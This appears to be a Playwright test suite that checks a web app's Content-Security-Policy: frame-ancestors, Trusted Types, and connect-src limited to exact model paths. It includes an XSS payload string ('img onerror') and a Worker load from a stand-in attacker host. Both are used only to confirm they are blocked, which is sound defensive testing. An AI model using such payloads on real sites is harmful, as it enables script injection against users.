/**
 * Issue 13, finding 8: no frame-ancestors (a meta tag cannot carry it), connect-src open to all of
 * raw.githubusercontent.com and *.hf.co where anyone can publish, and no Trusted Types.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from '@playwright/test';

const directive = (policy: string, name: string) => policy.split(';').map((d) => d.trim()).find((d) => d.startsWith(`${name} `)) ?? '';

test.describe('Content-Security-Policy', () => {
  test('the document header: frame-ancestors \'none\', Trusted Types, and connect-src at exact model paths', async ({ request }) => {
    const doc = (await request.get('/', { headers: { 'sec-fetch-dest': 'document' } })).headers()['content-security-policy'];
    expect(directive(doc, 'frame-ancestors')).toBe("frame-ancestors 'none'");
    expect(directive(doc, 'require-trusted-types-for')).toBe("require-trusted-types-for 'script'");
    expect(directive(doc, 'trusted-types')).toBe('trusted-types default');
    const connect = directive(doc, 'connect-src').split(' ');
    for (const whole of ['https://huggingface.co', 'https://raw.githubusercontent.com', 'https://*.hf.co', 'https://*.huggingface.co']) expect(connect).not.toContain(whole);
    expect(connect).toContain('https://huggingface.co/Xenova/all-MiniLM-L6-v2/resolve/main/');

    // A worker script gets the policy without Trusted Types (libraries in workers load their own code).
    const html = await (await request.get('/')).text();
    const script = /src="(\/assets\/[^"]+\.js)"/.exec(html)![1];
    const asset = (await request.get(script, { headers: { 'sec-fetch-dest': 'worker' } })).headers()['content-security-policy'];
    expect(directive(asset, 'frame-ancestors')).toBe("frame-ancestors 'none'");
    expect(directive(asset, 'require-trusted-types-for')).toBe('');
    expect(directive(asset, 'connect-src')).toBe(directive(doc, 'connect-src'));
  });

  test('the build carries the same headers for a static host (dist/_headers)', async ({ request }) => {
    const doc = (await request.get('/', { headers: { 'sec-fetch-dest': 'document' } })).headers()['content-security-policy'];
    const file = readFileSync(join(process.cwd(), 'dist/_headers'), 'utf8');
    expect(file).toContain(`/index.html\n  Content-Security-Policy: ${doc}\n`);
    expect(file).toContain('/*\n  Content-Security-Policy: ');
  });

  test('another site cannot frame the app', async ({ page, baseURL }) => {
    const refused: string[] = [];
    page.on('console', (m) => { if (/frame-ancestors/.test(m.text())) refused.push(m.text()); });
    await page.setContent(`<iframe id="app" src="${baseURL}/" width="400" height="300"></iframe>`);
    await expect.poll(() => refused.length).toBeGreaterThan(0);
    const frame = page.frames().find((f) => f !== page.mainFrame());
    expect(await frame?.locator('#root').count().catch(() => 0) ?? 0).toBe(0);
  });

  test('Trusted Types: HTML from a string and a script from another origin are refused; the app still runs its workers', async ({ page }) => {
    await page.goto('/#/memories');
    await expect(page.getByTestId('store-tools')).toBeVisible();
    const results = await page.evaluate(() => {
      const tryIt = (f: () => void) => { try { f(); return 'allowed'; } catch (e) { return (e as Error).name; } };
      return {
        innerHTML: tryIt(() => { document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>'; }),
        foreignWorker: tryIt(() => { new Worker('https://evil.example/w.js'); }),
        ownWorker: tryIt(() => { new Worker(new URL('/models/router.bin', location.href)).terminate(); }),
      };
    });
    expect(results).toEqual({ innerHTML: 'TypeError', foreignWorker: 'TypeError', ownWorker: 'allowed' });
  });

  test('connect-src: a listed model path is fetched, an unlisted repository on the same host is refused before any request', async ({ page, context }) => {
    const asked: string[] = [];
    await context.route('https://huggingface.co/**', (route) => { asked.push(route.request().url()); return route.fulfill({ status: 200, contentType: 'application/json', body: '{}' }); });
    await page.goto('/');
    const outcome = await page.evaluate(async () => {
      const get = (u: string) => fetch(u).then((r) => `status ${r.status}`, (e: Error) => e.name);
      return {
        listed: await get('https://huggingface.co/Xenova/all-MiniLM-L6-v2/resolve/main/config.json'),
        unlisted: await get('https://huggingface.co/someone-else/model/resolve/main/config.json'),
      };
    });
    expect(outcome).toEqual({ listed: 'status 200', unlisted: 'TypeError' });
    expect(asked).toEqual(['https://huggingface.co/Xenova/all-MiniLM-L6-v2/resolve/main/config.json']);
  });
});
